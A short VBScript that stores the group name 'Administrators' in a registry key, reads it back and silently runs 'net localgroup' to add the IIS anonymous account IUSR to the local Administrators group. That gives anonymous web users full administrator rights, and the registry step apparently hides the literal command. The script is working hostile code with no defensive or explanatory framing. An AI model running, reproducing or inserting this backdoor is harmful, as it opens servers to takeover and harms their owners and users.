Set sh = CreateObject("WScript.Shell")
sh.RegWrite "HKLM\SOFTWARE\Contoso\Group", "Administrators", "REG_SZ"
name = sh.RegRead("HKLM\SOFTWARE\Contoso\Group")
sh.Run "net localgroup " & name & " IUSR /add", 0, True
